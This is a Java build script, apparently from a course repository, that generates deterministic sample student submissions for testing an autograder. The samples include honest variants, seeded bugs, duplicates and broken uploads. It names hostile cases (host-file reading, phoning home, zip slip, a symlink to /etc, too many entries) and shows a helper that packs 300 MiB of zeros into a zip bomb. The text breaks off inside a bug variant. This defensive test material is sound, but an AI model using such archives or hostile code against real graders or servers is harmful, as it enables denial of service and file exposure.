import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * Builds a sample class of latency submissions, as an LMS's "download all submissions" would give them, from
 * the course's own files: the reference ({@code solutions/latency}) and the skeleton ({@code exercises/latency}).
 * Every variant is the reference (or the skeleton) with exact text edits; an edit whose text is not found
 * stops the build with its name, so a change to the reference cannot silently turn a sample into another one.
 *
 * <p>Run: {@code java samples/class/BuildClass.java --course <course> --out <empty folder>
 * [--layout canvas|folders|zip-of-zips]}. The output is the same, byte for byte, on every run: zip entries are
 * sorted and carry one fixed time, and the zips are written here rather than by a tool that adds its own fields.
 * See README.md next to this file for what each student is and expected.tsv for what grading should show.
 */
public final class BuildClass {

    static final String PACKAGE = "exercises/latency/src/main/java/dev/amdahl/exercises/latency/";
    static final String[] CLASSES = {"CacheEffects", "CacheTimer", "HumanTime", "HumanUnit", "Latency",
        "LatencyTable"};
    /** 2024-09-16 10:00, in the DOS date and time fields every entry carries. */
    static final int DOS_TIME = (10 << 11);
    static final int DOS_DATE = ((2024 - 1980) << 9) | (9 << 5) | 16;
    static final long ZIP_BOMB_BYTES = 300L * 1024 * 1024;
    static final int MANY_ENTRIES = 10_001;

    private BuildClass() {
    }

    public static void main(String[] args) throws IOException {
        Map<String, String> options = parse(args);
        Path course = Path.of(options.get("--course"));
        Path out = Path.of(options.get("--out"));
        String layout = options.getOrDefault("--layout", "canvas");
        if (!Set.of("canvas", "folders", "zip-of-zips").contains(layout)) {
            fail("--layout must be canvas, folders or zip-of-zips, not " + layout);
        }
        if (Files.exists(out) && (!Files.isDirectory(out) || !isEmpty(out))) {
            fail(out + " is not an empty folder: give --out a new or empty folder, so that nothing old stays in it");
        }
        Sources sources = Sources.read(course);
        List<Student> students = Students.all(sources);
        Files.createDirectories(out);
        switch (layout) {
            case "canvas" -> {
                for (Map.Entry<String, byte[]> file : canvasFiles(students).entrySet()) {
                    write(out.resolve(file.getKey()), file.getValue());
                }
            }
            case "zip-of-zips" -> {
                ZipWriter zip = new ZipWriter();
                for (Map.Entry<String, byte[]> file : canvasFiles(students).entrySet()) {
                    zip.file(file.getKey(), file.getValue(), !file.getKey().endsWith(".zip"));
                }
                write(out.resolve("submissions.zip"), zip.finish());
            }
            default -> {
                write(out.resolve("grades-notes.txt"), NOTES);
                for (Student student : students) {
                    student.submission().writeFolder(out.resolve(student.id()));
                }
            }
        }
        System.out.println("Wrote " + students.size() + " latency submissions (" + layout + ") to " + out);
    }

    static final byte[] NOTES = """
            Notes for grading the latency exercise (not a submission).
            - Marked by the autograder; late penalties are applied by the course's policy, not here.
            - Ask the TA about anything the grader calls unusable before the grades are released.
            """.getBytes(StandardCharsets.UTF_8);

    /** The canvas layout: one zip per student named as Canvas names it, a Moodle folder, and a notes file. */
    static Map<String, byte[]> canvasFiles(List<Student> students) {
        Map<String, byte[]> files = new TreeMap<>();
        files.put("grades-notes.txt", NOTES);
        for (Student student : students) {
            files.put(student.fileName(), student.submission().zip());
        }
        return files;
    }

    static Map<String, String> parse(String[] args) {
        Map<String, String> options = new LinkedHashMap<>();
        for (int i = 0; i < args.length; i++) {
            if (!Set.of("--course", "--out", "--layout").contains(args[i]) || i + 1 == args.length) {
                fail("usage: java samples/class/BuildClass.java --course <course-dir> --out <folder> "
                        + "[--layout canvas|folders|zip-of-zips]");
            }
            options.put(args[i], args[++i]);
        }
        if (!options.containsKey("--course") || !options.containsKey("--out")) {
            fail("--course and --out are required: java samples/class/BuildClass.java --course <course-dir> "
                    + "--out <folder> [--layout canvas|folders|zip-of-zips]");
        }
        return options;
    }

    static boolean isEmpty(Path folder) throws IOException {
        try (var entries = Files.list(folder)) {
            return entries.findAny().isEmpty();
        }
    }

    static void write(Path file, byte[] bytes) {
        try {
            Files.createDirectories(file.getParent());
            Files.write(file, bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static void fail(String message) {
        System.err.println("BuildClass: " + message);
        System.exit(2);
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** The course's latency classes: the reference and the skeleton, by class name. */
    record Sources(Map<String, String> reference, Map<String, String> skeleton) {
        static Sources read(Path course) throws IOException {
            Map<String, String> reference = new TreeMap<>();
            Map<String, String> skeleton = new TreeMap<>();
            for (String name : CLASSES) {
                reference.put(name, readClass(course.resolve("solutions/latency/src/main/java/dev/amdahl/exercises"
                        + "/latency/" + name + ".java")));
                skeleton.put(name, readClass(course.resolve("exercises/latency/src/main/java/dev/amdahl/exercises"
                        + "/latency/" + name + ".java")));
            }
            return new Sources(reference, skeleton);
        }

        static String readClass(Path file) throws IOException {
            if (!Files.isRegularFile(file)) {
                fail(file + " is missing: --course must be the course repository (with solutions/latency and "
                        + "exercises/latency)");
            }
            return Files.readString(file);
        }
    }

    /** One student: the name the LMS gives their file, and what they handed in. */
    record Student(String id, String fileName, Submission submission) {
        /** A Canvas download: {@code smithjane_12345_67890_latency.zip}, {@code _LATE_} after the name if late. */
        static Student canvas(String id, int userId, int submissionId, boolean late, Submission submission) {
            return new Student(id, id + (late ? "_LATE" : "") + "_" + userId + "_" + submissionId + "_latency.zip",
                    submission);
        }

        /** A Moodle download: a folder per student, named after them, holding the file they uploaded. */
        static Student moodle(String id, String fullName, int participantId, Submission submission) {
            return new Student(id, fullName + "_" + participantId + "_assignsubmission_file_/copy.zip", submission);
        }
    }

    /** What one student handed in: a zip, and the same as plain files where a folder can hold it. */
    interface Submission {
        byte[] zip();

        void writeFolder(Path folder);
    }

    /** A tree of files (path → bytes; a symbolic link's bytes are its target, and its path is in links). */
    record Tree(Map<String, byte[]> files, Set<String> links) implements Submission {
        Tree(Map<String, byte[]> files) {
            this(files, Set.of());
        }

        @Override
        public byte[] zip() {
            ZipWriter zip = new ZipWriter();
            Set<String> folders = new TreeSet<>();
            for (String path : files.keySet()) {
                for (int slash = path.indexOf('/'); slash >= 0; slash = path.indexOf('/', slash + 1)) {
                    folders.add(path.substring(0, slash + 1));
                }
            }
            Map<String, byte[]> entries = new TreeMap<>(files);
            folders.forEach(folder -> entries.put(folder, null));
            entries.forEach((path, bytes) -> {
                if (bytes == null) {
                    zip.folder(path);
                } else if (links.contains(path)) {
                    zip.symlink(path, new String(bytes, StandardCharsets.UTF_8));
                } else {
                    zip.file(path, bytes, true);
                }
            });
            return zip.finish();
        }

        @Override
        public void writeFolder(Path folder) {
            try {
                Files.createDirectories(folder);
                for (Map.Entry<String, byte[]> file : files.entrySet()) {
                    Path path = folder.resolve(file.getKey());
                    Files.createDirectories(path.getParent());
                    if (links.contains(file.getKey())) {
                        Files.createSymbolicLink(path, Path.of(new String(file.getValue(), StandardCharsets.UTF_8)));
                    } else {
                        Files.write(path, file.getValue());
                    }
                }
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }

    /** A file that only exists as an archive (a corrupt or hostile one): it has no folder form. */
    record ArchiveOnly(byte[] zip) implements Submission {
        @Override
        public void writeFolder(Path folder) {
            // Left out of the folders layout: what makes this archive unusable is the archive itself.
        }
    }

    /** A student's copy of the latency classes, made from the reference or the skeleton by exact text edits. */
    static final class Copy {
        private final String student;
        private final Map<String, String> classes;
        private final Map<String, byte[]> extra = new TreeMap<>();

        Copy(String student, Map<String, String> base) {
            this.student = student;
            this.classes = new TreeMap<>(base);
        }

        /** Replaces the one occurrence of {@code find} in the class; fails loudly if it occurs 0 or 2+ times. */
        Copy edit(String className, String find, String replace) {
            String text = classes.get(className);
            int at = text.indexOf(find);
            if (at < 0 || text.indexOf(find, at + 1) >= 0) {
                fail("student " + student + ": the text to replace in " + className + ".java was "
                        + (at < 0 ? "not found" : "found more than once") + ", so this sample no longer is what "
                        + "README.md says. Update its edit in BuildClass.java. The text:\n" + find);
            }
            classes.put(className, text.substring(0, at) + replace + text.substring(at + find.length()));
            return this;
        }

        /** Moves a block (found exactly once) to just before {@code before}: methods in another order. */
        Copy move(String className, String block, String before) {
            edit(className, block, "");
            return edit(className, before, block + before);
        }

        Copy file(String path, String text) {
            extra.put(path, utf8(text));
            return this;
        }

        /** The copy as it sits in a student's course folder, under {@code prefix}. */
        Tree tree(String prefix) {
            Map<String, byte[]> files = new TreeMap<>();
            classes.forEach((name, text) -> files.put(prefix + PACKAGE + name + ".java", utf8(text)));
            extra.forEach((path, bytes) -> files.put(prefix + path, bytes));
            return new Tree(files);
        }

        Tree tree() {
            return tree("");
        }
    }

    /**
     * A zip writer that writes every field itself, so the bytes depend only on the entries: a fixed time,
     * no extra fields, Unix modes (a symbolic link is an entry whose mode says so and whose data is its target).
     */
    static final class ZipWriter {
        private final ByteArrayOutputStream data = new ByteArrayOutputStream();
        private final ByteArrayOutputStream central = new ByteArrayOutputStream();
        private int entries;

        void file(String name, byte[] bytes, boolean deflate) {
            CRC32 crc = new CRC32();
            crc.update(bytes);
            byte[] stored = deflate ? deflate(bytes) : bytes;
            entry(name, 0100644, deflate ? 8 : 0, crc.getValue(), stored, bytes.length);
        }

        void folder(String name) {
            entry(name, 040755, 0, 0, new byte[0], 0);
        }

        void symlink(String name, String target) {
            byte[] bytes = utf8(target);
            CRC32 crc = new CRC32();
            crc.update(bytes);
            entry(name, 0120777, 0, crc.getValue(), bytes, bytes.length);
        }

        /** A file of {@code size} zero bytes, deflated a MiB at a time (never held uncompressed). */
        void zeros(String name, long size) {
            byte[] chunk = new byte[1024 * 1024];
            CRC32 crc = new CRC32();
            Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
            ByteArrayOutputStream compressed = new ByteArrayOutputStream();
            byte[] buffer = new byte[64 * 1024];
            for (long left = size; left > 0; left -= chunk.length) {
                int length = (int) Math.min(chunk.length, left);
                crc.update(chunk, 0, length);
                deflater.setInput(chunk, 0, length);
                while (!deflater.needsInput()) {
                    compressed.write(buffer, 0, deflater.deflate(buffer));
                }
            }
            deflater.finish();
            while (!deflater.finished()) {
                compressed.write(buffer, 0, deflater.deflate(buffer));
            }
            deflater.end();
            entry(name, 0100644, 8, crc.getValue(), compressed.toByteArray(), size);
        }

        /** Raw bytes that are not a zip entry at all, written where an entry would start. */
        void raw(byte[] bytes) {
            data.writeBytes(bytes);
        }

        private void entry(String name, int mode, int method, long crc, byte[] stored, long size) {
            byte[] nameBytes = utf8(name);
            int offset = data.size();
            int flags = 0x0800; // names are UTF-8
            le32(data, 0x04034b50);
            le16(data, 20);
            le16(data, flags);
            le16(data, method);
            le16(data, DOS_TIME);
            le16(data, DOS_DATE);
            le32(data, crc);
            le32(data, stored.length);
            le32(data, size);
            le16(data, nameBytes.length);
            le16(data, 0);
            data.writeBytes(nameBytes);
            data.writeBytes(stored);

            le32(central, 0x02014b50);
            le16(central, (3 << 8) | 20); // made by Unix, so the external attributes hold a Unix mode
            le16(central, 20);
            le16(central, flags);
            le16(central, method);
            le16(central, DOS_TIME);
            le16(central, DOS_DATE);
            le32(central, crc);
            le32(central, stored.length);
            le32(central, size);
            le16(central, nameBytes.length);
            le16(central, 0);
            le16(central, 0);
            le16(central, 0);
            le16(central, 0);
            le32(central, ((long) mode << 16) | ((mode & 040000) != 0 ? 0x10 : 0));
            le32(central, offset);
            central.writeBytes(nameBytes);
            entries++;
        }

        byte[] finish() {
            ByteArrayOutputStream zip = new ByteArrayOutputStream();
            zip.writeBytes(data.toByteArray());
            int centralOffset = zip.size();
            zip.writeBytes(central.toByteArray());
            le32(zip, 0x06054b50);
            le16(zip, 0);
            le16(zip, 0);
            le16(zip, entries);
            le16(zip, entries);
            le32(zip, central.size());
            le32(zip, centralOffset);
            le16(zip, 0);
            return zip.toByteArray();
        }

        static byte[] deflate(byte[] bytes) {
            Deflater deflater = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
            deflater.setInput(bytes);
            deflater.finish();
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] buffer = new byte[64 * 1024];
            while (!deflater.finished()) {
                out.write(buffer, 0, deflater.deflate(buffer));
            }
            deflater.end();
            return out.toByteArray();
        }

        static void le16(OutputStream out, int value) {
            try {
                out.write(value & 0xff);
                out.write((value >>> 8) & 0xff);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        static void le32(OutputStream out, long value) {
            le16(out, (int) (value & 0xffff));
            le16(out, (int) ((value >>> 16) & 0xffff));
        }
    }

    /** Every student of the sample class, in the order README.md lists them. */
    static final class Students {
        private Students() {
        }

        static List<Student> all(Sources sources) {
            List<Student> students = new ArrayList<>();
            Map<String, String> ref = sources.reference();
            // Honest students: the reference written a little differently, each in its own mix of equivalent
            // ways, so that honest copies resemble each other less than the two duplicates below.
            students.add(Student.canvas("smithjane", 12345, 67890, false, Variants.commented(
                    Variants.indexLoops(new Copy("smithjane", ref))).tree()));
            students.add(Student.canvas("nguyenlinh", 12346, 67891, false, nguyenlinh(ref).tree()));
            students.add(Student.canvas("garciacarlos", 12347, 67892, false, Variants.reformatted(
                    Variants.forwardUnitSearch(Variants.inlineTiles(new Copy("garciacarlos", ref)))).tree()));
            students.add(Student.canvas("okaforchidi", 12348, 67893, false, okaforchidi(ref).tree()));
            students.add(Student.canvas("kowalskianna", 12349, 67894, true, Variants.divisionShapeCheck(
                    Variants.commented(Variants.forwardUnitSearch(new Copy("kowalskianna", ref)))).tree()));
            students.add(Student.canvas("tanakayuki", 12350, 67895, false, Variants.indexTranspose(
                    Variants.inlineTiles(Variants.renamedLocals(new Copy("tanakayuki", ref)))).tree()));
            students.add(Student.canvas("brownolivia", 12351, 67896, false, Variants.finalLocals(
                    Variants.iteratorWalk(Variants.divisionShapeCheck(new Copy("brownolivia", ref)))).tree()));
            students.add(Student.canvas("patelriya", 12352, 67897, false, Variants.ownTest(
                    Variants.strideColumns(Variants.indexLoops(new Copy("patelriya", ref)))).tree()));
            students.add(Student.moodle("jane-doe", "Jane Doe", 123456, Variants.decimalFromString(
                    Variants.iteratorWalk(Variants.indexTranspose(new Copy("jane-doe", ref)))).tree()));
            students.add(Student.canvas("haddadomar", 12353, 67898, false,
                    new Copy("haddadomar", sources.skeleton()).tree()));
            students.add(Student.canvas("leesamuel", 12354, 67899, false, Variants.messy(
                    new Copy("leesamuel", ref)).tree()));

            // One realistic bug each.
            students.add(Student.canvas("wilsonemma", 12355, 67900, false, Bugs.offByOne(
                    new Copy("wilsonemma", ref)).tree()));
            students.add(Student.canvas("ivanovdmitri", 12356, 67901, true, Bugs.wrongUnit(
                    new Copy("ivanovdmitri", ref)).tree()));
            students.add(Student.canvas("rossimarco", 12357, 67902, false, Bugs.truncates(
                    new Copy("rossimarco", ref)).tree()));
            students.add(Student.canvas("kimminji", 12358, 67903, false, Bugs.indexesLinkedList(
                    new Copy("kimminji", ref)).tree()));
            students.add(Student.canvas("andersenfreja", 12359, 67904, false, Bugs.swallowsException(
                    new Copy("andersenfreja", ref)).tree()));
            students.add(Student.canvas("dialucas", 12360, 67905, false, Bugs.strictComparison(
                    new Copy("dialucas", ref)).tree()));

            // Broken submissions.
            students.add(Student.canvas("zhangwei", 12361, 67906, false, Bugs.missingSemicolon(
                    new Copy("zhangwei", ref)).tree()));
            students.add(Student.canvas("obrienliam", 12362, 67907, false, new ArchiveOnly(new ZipWriter().finish())));
            students.add(Student.canvas("santosana", 12363, 67908, false, new ArchiveOnly(utf8(
                    "PK\u0003\u0004 this upload stopped half way; the rest of the file never arrived\n"))));
            students.add(Student.canvas("novakpetr", 12364, 67909, false, new Tree(Map.of("README.md", utf8("""
                    # Latency

                    I could not get the exercise to build on my laptop, so I am handing in my notes instead.
                    CacheTimer showed the column-by-column sum about 4x slower than row by row.
                    """)))));
            students.add(Student.canvas("mahlerjonas", 12365, 67910, true, Variants.commented(
                    Variants.divisionShapeCheck(new Copy("mahlerjonas", ref))).tree("latency-submission/")));

            // Hostile code, on paths the tests reach.
            students.add(Student.canvas("turnerben", 12366, 67911, false, Hostile.spinsForever(
                    new Copy("turnerben", ref)).tree()));
            students.add(Student.canvas("fischermax", 12367, 67912, false, Hostile.exits(
                    new Copy("fischermax", ref)).tree()));
            students.add(Student.canvas("hughesnoah", 12368, 67913, false, Hostile.hoardsMemory(
                    new Copy("hughesnoah", ref)).tree()));
            students.add(Student.canvas("moreaulea", 12369, 67914, false, Hostile.readsHostFiles(
                    new Copy("moreaulea", ref)).tree()));
            students.add(Student.canvas("silvapedro", 12370, 67915, false, Hostile.phonesHome(
                    new Copy("silvapedro", ref)).tree()));
            students.add(Student.canvas("larsenerik", 12371, 67916, false, Hostile.startsThreads(
                    new Copy("larsenerik", ref)).tree()));

            // Hostile archives: the intake must refuse them before anything is unpacked or graded.
            students.add(Student.canvas("blackzoe", 12372, 67917, false, Archives.zipSlip(ref)));
            students.add(Student.canvas("greeneli", 12373, 67918, false, Archives.symlinkToEtc(ref)));
            students.add(Student.canvas("frostkai", 12374, 67919, false, Archives.zipBomb(ref)));
            students.add(Student.canvas("whitmoreamy", 12375, 67920, false, Archives.tooManyEntries(ref)));

            // Duplicates: an exact copy of nguyenlinh, and okaforchidi with renamed identifiers and methods
            // in another order.
            students.add(Student.canvas("copelandryan", 12376, 67921, false, nguyenlinh(ref).tree()));
            students.add(Student.canvas("pricetom", 12377, 67922, true, Variants.disguised(
                    okaforchidi(ref)).tree()));
            return students;
        }

        static Copy nguyenlinh(Map<String, String> ref) {
            return Variants.indexTranspose(Variants.renamedLocals(Variants.forwardUnitSearch(
                    new Copy("nguyenlinh", ref))));
        }

        static Copy okaforchidi(Map<String, String> ref) {
            return Variants.iteratorWalk(Variants.inlineTiles(Variants.decimalFromString(
                    Variants.indexLoops(new Copy("okaforchidi", ref)))));
        }
    }

    /** Harmless differences: each gives the same results as the reference. */
    static final class Variants {
        private Variants() {
        }

        static Copy commented(Copy copy) {
            return copy.edit("CacheEffects", """
                                for (int r = 0; r < rows; r++) {
                                    sum += matrix[r * cols + c];
                    """, """
                                // jump a whole row (cols doubles) each time: this is the slow one in CacheTimer
                                for (int r = 0; r < rows; r++) {
                                    sum += matrix[r * cols + c];
                    """).edit("HumanTime", """
                            HumanUnit unit = unitFor(seconds);
                    """, """
                            // pick the unit first, then round in it (3599 s is "60 min", not "1 hr")
                            HumanUnit unit = unitFor(seconds);
                    """);
        }

        static Copy indexLoops(Copy copy) {
            return copy.edit("CacheEffects", """
                        public static double sumArray(double[] values) {
                            double sum = 0;
                            for (double value : values) {
                                sum += value;
                            }
                    """, """
                        public static double sumArray(double[] values) {
                            double sum = 0;
                            for (int i = 0; i < values.length; i++) {
                                sum += values[i];
                            }
                    """).edit("CacheEffects", """
                                int start = r * cols;
                                for (int c = 0; c < cols; c++) {
                                    sum += matrix[start + c];
                                }
                    """, """
                                for (int c = 0; c < cols; c++) {
                                    sum += matrix[r * cols + c];
                                }
                    """);
        }

        static Copy reformatted(Copy copy) {
            return copy.edit("HumanTime", """
                            String number = BigDecimal.valueOf(seconds / unit.seconds()).setScale(1, RoundingMode.HALF_UP)
                                    .stripTrailingZeros().toPlainString();
                    """, """
                            String number = BigDecimal.valueOf(seconds / unit.seconds())
                                    .setScale(1, RoundingMode.HALF_UP)
                                    .stripTrailingZeros()
                                    .toPlainString();
                    """).edit("CacheEffects", """
                            if (rows < 1 || cols < 1 || (long) rows * cols != matrix.length) {
                    """, """
                            if (rows < 1
                                    || cols < 1
                                    || (long) rows * cols != matrix.length) {
                    """);
        }

        static Copy forwardUnitSearch(Copy copy) {
            return copy.edit("HumanTime", """
                            HumanUnit[] units = HumanUnit.values();
                            for (int i = units.length - 1; i > 0; i--) {
                                if (seconds / units[i].seconds() >= 1) {
                                    return units[i];
                                }
                            }
                            return HumanUnit.SECOND;
                    """, """
                            HumanUnit chosen = HumanUnit.SECOND;
                            for (HumanUnit unit : HumanUnit.values()) {
                                if (seconds / unit.seconds() >= 1) {
                                    chosen = unit;
                                }
                            }
                            return chosen;
                    """);
        }

        static Copy inlineTiles(Copy copy) {
            return copy.edit("CacheEffects", """
                                for (int colStart = 0; colStart < cols; colStart += block) {
                                    transposeTile(matrix, rows, cols, result, rowStart, colStart, block);
                                }
                    """, """
                                int rowEnd = Math.min(rows, rowStart + block);
                                for (int colStart = 0; colStart < cols; colStart += block) {
                                    int colEnd = Math.min(cols, colStart + block);
                                    for (int r = rowStart; r < rowEnd; r++) {
                                        for (int c = colStart; c < colEnd; c++) {
                                            result[c * rows + r] = matrix[r * cols + c];
                                        }
                                    }
                                }
                    """).edit("CacheEffects", """
                        /** Transposes the tile whose top left element is (rowStart, colStart) into {@code result}. */
                        private static void transposeTile(double[] matrix, int rows, int cols, double[] result, int rowStart,
                                int colStart, int block) {
                            int rowEnd = Math.min(rows, rowStart + block);
                            int colEnd = Math.min(cols, colStart + block);
                            for (int r = rowStart; r < rowEnd; r++) {
                                for (int c = colStart; c < colEnd; c++) {
                                    result[c * rows + r] = matrix[r * cols + c];
                                }
                            }
                        }

                    """, "");
        }

        static Copy divisionShapeCheck(Copy copy) {
            return copy.edit("CacheEffects", """
                            if (rows < 1 || cols < 1 || (long) rows * cols != matrix.length) {
                    """, """
                            if (rows < 1 || cols < 1 || matrix.length % rows != 0 || matrix.length / rows != cols) {
                    """);
        }

        static Copy renamedLocals(Copy copy) {
            return copy.edit("CacheEffects", """
                            double sum = 0;
                            for (int c = 0; c < cols; c++) {
                                for (int r = 0; r < rows; r++) {
                                    sum += matrix[r * cols + c];
                                }
                            }
                            return sum;
                    """, """
                            double total = 0;
                            for (int c = 0; c < cols; c++) {
                                for (int r = 0; r < rows; r++) {
                                    total += matrix[r * cols + c];
                                }
                            }
                            return total;
                    """).edit("HumanTime", """
                            String number = BigDecimal.valueOf(seconds / unit.seconds()).setScale(1, RoundingMode.HALF_UP)
                                    .stripTrailingZeros().toPlainString();
                            return number + " " + unit.after(number);
                    """, """
                            String rounded = BigDecimal.valueOf(seconds / unit.seconds()).setScale(1, RoundingMode.HALF_UP)
                                    .stripTrailingZeros().toPlainString();
                            return rounded + " " + unit.after(rounded);
                    """);
        }

        static Copy strideColumns(Copy copy) {
            return copy.edit("CacheEffects", """
                            for (int c = 0; c < cols; c++) {
                                for (int r = 0; r < rows; r++) {
                                    sum += matrix[r * cols + c];
                                }
                            }
                    """, """
                            for (int c = 0; c < cols; c++) {
                                for (int i = c; i < matrix.length; i += cols) {
                                    sum += matrix[i];
                                }
                            }
                    """);
        }

        static Copy indexTranspose(Copy copy) {
            return copy.edit("CacheEffects", """
                            double[] result = new double[matrix.length];
                            for (int r = 0; r < rows; r++) {
                                for (int c = 0; c < cols; c++) {
                                    result[c * rows + r] = matrix[r * cols + c];
                                }
                            }
                            return result;
                    """, """
                            double[] result = new double[matrix.length];
                            for (int i = 0; i < matrix.length; i++) {
                                result[(i % cols) * rows + i / cols] = matrix[i];
                            }
                            return result;
                    """);
        }

        static Copy iteratorWalk(Copy copy) {
            return copy.edit("CacheEffects", """
                        public static double sumLinkedList(LinkedList<Double> values) {
                            double sum = 0;
                            for (double value : values) {
                                sum += value;
                            }
                    """, """
                        public static double sumLinkedList(LinkedList<Double> values) {
                            double sum = 0;
                            Iterator<Double> walker = values.iterator();
                            while (walker.hasNext()) {
                                sum += walker.next();
                            }
                    """).edit("CacheEffects", """
                    import java.util.LinkedList;
                    """, """
                    import java.util.Iterator;
                    import java.util.LinkedList;
                    """);
        }

        static Copy finalLocals(Copy copy) {
            return copy.edit("HumanTime", """
                            HumanUnit unit = unitFor(seconds);
                    """, """
                            final HumanUnit unit = unitFor(seconds);
                    """).edit("HumanTime", """
                            String number = BigDecimal""", """
                            final String number = BigDecimal""").edit("CacheEffects", """
                                int start = r * cols;
                    """, """
                                final int start = r * cols;
                    """);
        }

        static Copy decimalFromString(Copy copy) {
            return copy.edit("HumanTime", """
                    BigDecimal.valueOf(seconds / unit.seconds())""", """
                    new BigDecimal(Double.toString(seconds / unit.seconds()))""");
        }

        /** Their own test, which the grader ignores (the course's tests grade). */
        static Copy ownTest(Copy copy) {
            return copy.file("exercises/latency/src/test/java/dev/amdahl/exercises/latency/MyHumanTimeTest.java", """
                    package dev.amdahl.exercises.latency;

                    import static org.junit.jupiter.api.Assertions.assertEquals;

                    import org.junit.jupiter.api.Test;

                    class MyHumanTimeTest {

                        @Test
                        void l1IsHalfASecond() {
                            assertEquals("0.5 s", HumanTime.humanTime(LatencyTable.find("L1 cache reference")));
                        }
                    }
                    """);
        }

        /** Correct, but careless: names in the wrong case, several statements on one line. */
        static Copy messy(Copy copy) {
            return copy.edit("CacheEffects", """
                            double sum = 0;
                            for (double value : values) {
                                sum += value;
                            }
                            return sum;
                        }

                        /**
                         * The sum of a linked list\
                    """, """
                            double Total = 0; for (double V : values) { Total += V; } return Total;
                        }

                        /**
                         * The sum of a linked list\
                    """).edit("CacheEffects", """
                            double[] result = new double[matrix.length];
                            for (int r = 0; r < rows; r++) {
                                for (int c = 0; c < cols; c++) {
                                    result[c * rows + r] = matrix[r * cols + c];
                                }
                            }
                            return result;
                    """, """
                            double[] Result = new double[matrix.length];
                            for (int r = 0; r < rows; r++) {
                                for (int c = 0; c < cols; c++) { Result[c * rows + r] = matrix[r * cols + c]; }
                            }
                            return Result;
                    """).edit("HumanTime", """
                            HumanUnit unit = unitFor(seconds);
                            String number = BigDecimal.valueOf(seconds / unit.seconds()).setScale(1, RoundingMode.HALF_UP)
                                    .stripTrailingZeros().toPlainString();
                            return number + " " + unit.after(number);
                    """, """
                            HumanUnit U = unitFor(seconds); String Num = BigDecimal.valueOf(seconds / U.seconds())
                                    .setScale(1, RoundingMode.HALF_UP).stripTrailingZeros().toPlainString();
                            return Num + " " + U.after(Num);
                    """);
        }

        /** okaforchidi's copy, disguised: identifiers renamed, methods in another order, a comment added. */
        static Copy disguised(Copy copy) {
            return copy.edit("CacheEffects", """
                            double sum = 0;
                            for (int i = 0; i < values.length; i++) {
                                sum += values[i];
                            }
                            return sum;
                    """, """
                            double acc = 0;
                            for (int k = 0; k < values.length; k++) {
                                acc += values[k];
                            }
                            return acc;
                    """).edit("CacheEffects", """
                            double sum = 0;
                            Iterator<Double> walker = values.iterator();
                            while (walker.hasNext()) {
                                sum += walker.next();
                            }
                            return sum;
                    """, """
                            double acc = 0;
                            Iterator<Double> it = values.iterator();
                            while (it.hasNext()) {
                                acc += it.next();
                            }
                            return acc;
                    """).edit("CacheEffects", """
                                int rowEnd = Math.min(rows, rowStart + block);
                                for (int colStart = 0; colStart < cols; colStart += block) {
                                    int colEnd = Math.min(cols, colStart + block);
                    """, """
                                int lastRow = Math.min(rows, rowStart + block);
                                for (int colStart = 0; colStart < cols; colStart += block) {
                                    int lastCol = Math.min(cols, colStart + block);
                    """).edit("CacheEffects", """
                                    for (int r = rowStart; r < rowEnd; r++) {
                                        for (int c = colStart; c < colEnd; c++) {
                    """, """
                                    for (int r = rowStart; r < lastRow; r++) {
                                        for (int c = colStart; c < lastCol; c++) {
                    """).move("CacheEffects", """
                        /**
                         * The sum of an array, from the first element to the last, in one running sum.
                         *
                         * @param values the numbers, next to each other in memory
                         * @return their sum; 0 for no numbers
                         */
                        public static double sumArray(double[] values) {
                            double acc = 0;
                            for (int k = 0; k < values.length; k++) {
                                acc += values[k];
                            }
                            return acc;
                        }

                    """, """
                        /**
                         * The sum of all elements, visiting them row by row\
                    """).move("HumanTime", """
                        /**
                         * A row of the latency table in human time.
                         *
                         * @param latency the row
                         * @return its duration times a billion, written by the rule, e.g. "0.5 s" for an L1 cache reference
                         */
                        public static String humanTime(Latency latency) {
                            return format(humanSeconds(latency.nanoseconds()));
                        }

                    """, """
                        /**
                         * A duration multiplied by a billion.\
                    """).edit("HumanTime", "String number = new BigDecimal(",
                    "// one decimal, halves up, no \".0\" at the end\n        String number = new BigDecimal(");
        }
    }

    /** One realistic bug each. */
    static final class Bugs {
        private Bugs() {
        }

        /** The last column of every row is never added. */
        static Copy offByOne(Copy copy) {
            return copy.edit("CacheEffects", """
                                for (int c = 0; c < cols; c++) {
                                    sum += matrix[start + c];
                    """, """
                                for (int c = 0; c < cols - 1; c++) {
                                    sum += matrix[start + c];
                    """);
        }

        /** Nanoseconds to seconds by 10⁻⁶ (a microsecond), so everything is a thousand times too long. */
        static Copy wrongUnit(Copy copy) {
            return copy.edit("HumanTime", """
                        private static final double SECONDS_PER_NANOSECOND = 1e-9;
                    """, """
                        private static final double SECONDS_PER_NANOSECOND = 1e-6;
                    """);
        }

        /** Cuts the number to one decimal instead of rounding it. */
        static Copy truncates(Copy copy) {
            return copy.edit("HumanTime", """
                    .setScale(1, RoundingMode.HALF_UP)""", """
                    .setScale(1, RoundingMode.DOWN)""");
        }

        /** Reads a LinkedList with get(i): right answers, n²/4 pointer hops, caught by the structure rule. */
        static Copy indexesLinkedList(Copy copy) {
            return copy.edit("CacheEffects", """
                        public static double sumLinkedList(LinkedList<Double> values) {
                            double sum = 0;
                            for (double value : values) {
                                sum += value;
                            }
                    """, """
                        public static double sumLinkedList(LinkedList<Double> values) {
                            double sum = 0;
                            for (int i = 0; i < values.size(); i++) {
                                sum += values.get(i);
                            }
                    """);
        }

        /** Catches its own refusal, prints it, and carries on with a negative duration. */
        static Copy swallowsException(Copy copy) {
            return copy.edit("HumanTime", """
                            requireDuration(nanoseconds, "nanoseconds");
                            return nanoseconds * SECONDS_PER_NANOSECOND * SCALE;
                    """, """
                            try {
                                requireDuration(nanoseconds, "nanoseconds");
                            } catch (IllegalArgumentException e) {
                                System.err.println(e.getMessage());
                            }
